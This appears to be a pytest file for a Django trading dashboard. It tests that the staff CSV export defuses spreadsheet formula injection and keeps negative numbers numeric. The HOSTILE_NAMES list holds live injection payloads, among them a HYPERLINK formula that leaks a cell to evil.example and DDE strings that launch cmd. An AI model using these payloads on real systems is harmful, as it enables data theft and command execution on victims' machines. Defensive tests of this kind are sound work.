"""Issue 12 item 6: the staff CSV export never hands a spreadsheet a formula (CSV injection)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from accounts.models import Account
from replication.models import OrderMapping
from tests.api_helpers import API
from tests.dashboard_helpers import build_desk, orchestrator, replicate_entry

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def is_number(text: str) -> bool:
    try:
        return Decimal(text).is_finite()
    except ArithmeticError:
        return False


def export_rows(client) -> list[dict[str, str]]:
    response = client.get(reverse("dashboard:log_csv"))
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def traded(people):
    desk = build_desk()
    Account.objects.filter(broker_user_id="C2").update(owner=people.alice)
    with orchestrator() as orch:
        replicate_entry(desk, orch)
    return desk


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_csv_export_neutralises_a_client_set_formula_name(people, traded, client, name):
    """Issue 12 item 6: a display name a client sets to a formula reaches the staff CSV as text."""
    c2 = Account.objects.get(broker_user_id="C2")
    if name[0] in "\t\r":  # the API strips these; a name stored before that rule still has them
        Account.objects.filter(pk=c2.pk).update(display_name=name)
    else:
        response = people.as_alice.patch(f"{API}/accounts/{c2.pk}", {"display_name": name}, format="json")
        assert response.status_code == 200, response.content
    client.force_login(people.staff)

    rows = export_rows(client)

    cell = next(r["child"] for r in rows if r["child_id"] == str(c2.pk))
    assert cell == "'" + name
    for row in rows:
        for value in row.values():
            assert is_number(value) or value[:1] not in ("=", "+", "-", "@", "\t", "\r"), row


def test_csv_export_neutralises_broker_and_staff_text_but_keeps_negative_numbers(people, traded, client):
    """Issue 12 item 6: reasons are neutralised as text; a negative number stays a number."""
    c1 = Account.objects.get(broker_user_id="C1")
    mapping = OrderMapping.objects.get(child=c1)
    # The child bought 1.50 below the master (a better fill: slippage -1.50) and the broker's
    # message (a postback's status_message is free text from outside) starts with "=".
    OrderMapping.objects.filter(pk=mapping.pk).update(
        average_price=Decimal("19998.50"), reason="=1+1", reason_code="-x"
    )
    client.force_login(people.staff)

    row = next(r for r in export_rows(client) if r["child_id"] == str(c1.pk))

    assert row["reason"] == "'=1+1"
    assert row["reason_code"] == "'-x"
    assert row["slippage_per_unit"] == "-1.50"
    assert row["child_avg_price"] == "19998.50"
    assert row["quantity"] == str(mapping.quantity)
